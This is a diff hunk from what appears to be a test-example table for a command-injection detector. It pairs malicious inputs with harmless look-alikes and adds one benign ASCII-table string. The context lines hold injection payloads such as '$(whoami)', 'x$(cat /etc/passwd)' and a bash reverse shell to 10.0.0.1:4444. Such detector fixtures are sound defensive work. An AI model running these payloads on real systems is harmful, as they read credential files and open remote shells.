@@ -86,6 +86,7 @@ EXAMPLES: dict[str, tuple[list[str], list[str]]] = {
                   ";(id|base64)", "a;(sleep 5|id)x"],
                  ["run `npm test` && deploy", "rock; paper; scissors", "| id | name |\n|----|------|",
                   "int | set | none", "it won't fail on (net|free|open)bsd (and perhaps cygwin)",
+                  "+----------------+\n| ID (4 bytes) |\n+----------------+\n| size (4 bytes) |\n+------+",
                   "and tclwin(get|set)sockopt"]),
     "cmdi-102": (["$(whoami)", "`id`", "x$(cat /etc/passwd)"], ["costs $(5)", "use the `id` field"]),
     "cmdi-103": (["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], ["a > b", "see tcp/ip docs"]),
